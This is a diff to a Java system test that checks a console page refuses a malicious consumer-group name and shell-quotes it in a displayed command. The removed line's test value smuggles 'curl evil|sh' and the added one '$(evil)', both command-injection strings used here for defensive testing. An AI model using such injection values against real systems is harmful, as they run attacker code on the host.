@@ -370,7 +370,7 @@ class ConsolePageSystemTests {
   @Test
   @Order(13)
   void saysWhyAGroupCannotBeWatchedAndQuotesItsNameForShells() {
-    browser.open("http://localhost:" + launcher.consolePort() + "/?group=x;curl%20evil%7Csh");
+    browser.open("http://localhost:" + launcher.consolePort() + "/?group=x%20$(evil)");
 
     soon(() -> assertThat(browser.text("#connection")).isEqualTo("refused"));
     assertThat(browser.text("#sentence")).contains("no consumer group");
@@ -378,7 +378,7 @@ class ConsolePageSystemTests {
             browser
                 .run("return document.querySelector('#replica-command pre').textContent")
                 .stringValue())
-        .contains("--group 'x;curl evil|sh'");
+        .contains("--group 'x $(evil)'");
   }
 
   private static JsonNode get(String path) {
